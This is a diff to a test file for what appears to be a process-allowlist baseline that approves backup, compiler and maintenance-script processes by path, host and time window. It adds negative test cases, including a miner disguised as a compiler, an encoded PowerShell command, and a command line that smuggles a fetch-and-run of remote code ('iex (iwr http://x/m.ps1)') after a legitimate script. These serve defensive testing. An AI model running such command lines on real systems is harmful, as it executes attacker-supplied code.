@@ -209,11 +209,26 @@ test('the sample packs/baseline.yml loads and approves what it documents', async
   const veeam = { name: 'VeeamAgent.exe', path: 'C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe' };
   assert.is(b.approvedBy(veeam, new Date('2026-11-25T02:30:00Z')), 'backup-agent-nightly');
   assert.is(b.approvedBy(veeam, new Date('2026-11-25T14:30:00Z')), null);
+  const cl =
+    'C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\VC\\Tools\\MSVC\\14.38.33130\\bin\\Hostx64\\x64\\cl.exe';
+  assert.is(b.approvedBy({ name: 'cl.exe', path: cl, hostname: 'BUILD-07' }, new Date()), 'build-agent-compilers');
+  assert.is(b.approvedBy({ name: 'cl.exe', path: cl, hostname: 'LAPTOP-1' }, new Date()), null);
+  // A miner named like a compiler, on a build agent, from where no toolchain is installed.
+  for (const path of ['C:\\Users\\builder\\AppData\\Local\\Temp\\n\\node.exe', 'C:\\x\\cl.exe'])
+    assert.is(b.approvedBy({ name: path.split('\\').pop()!, path, hostname: 'BUILD-07' }, new Date()), null, path);
+  // The maintenance script by its whole command line, in its window; not a command line that only mentions it.
+  const ps = { name: 'powershell.exe', path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' };
+  const sunday = new Date('2026-11-29T03:20:00Z');
+  const script = '\\\\corp.example\\netlogon\\maintenance\\Invoke-DiskMaintenance.ps1';
   assert.is(
-    b.approvedBy({ name: 'cl.exe', path: 'C:\\x\\cl.exe', hostname: 'BUILD-07' }, new Date()),
-    'build-agent-compilers',
+    b.approvedBy({ ...ps, cmdline: `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${script}` }, sunday),
+    'disk-maintenance-script',
   );
-  assert.is(b.approvedBy({ name: 'cl.exe', path: 'C:\\x\\cl.exe', hostname: 'LAPTOP-1' }, new Date()), null);
+  for (const cmdline of [
+    `powershell.exe -enc SQBFAFgA # ${script}`,
+    `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${script}; iex (iwr http://x/m.ps1)`,
+  ])
+    assert.is(b.approvedBy({ ...ps, cmdline }, sunday), null, cmdline);
 });
 
 test('approvalPredicate: a broken or missing file approves nothing and says so', async () => {
@@ -227,7 +242,7 @@ test('approvalPredicate: a broken or missing file approves nothing and says so',
     assert.match(logs.join('\n'), /error: baseline: .*no workload is approved/);
     const good = await approvalPredicate(join(process.cwd(), 'packs', 'baseline.yml'), 'CI-01', log);
     assert.is(
-      good({ name: 'cl.exe', path: 'C:\\VS\\cl.exe', cmdline: null }, new Date()),
+      good({ name: 'cl.exe', path: 'C:\\Program Files\\VS\\cl.exe', cmdline: null }, new Date()),
       true,
       'host group from the given hostname',
     );
